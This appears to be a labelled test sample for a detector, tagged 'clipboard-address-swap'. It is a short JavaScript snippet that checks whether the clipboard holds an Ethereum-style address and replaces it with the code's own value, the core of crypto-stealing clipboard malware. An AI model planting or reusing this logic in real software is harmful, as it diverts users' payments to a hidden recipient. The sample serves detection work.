// expect: clipboard-address-swap
const address = /^0x[a-fA-F0-9]{40}$/;
if (address.test(clipboard.readText())) clipboard.writeText(ours);
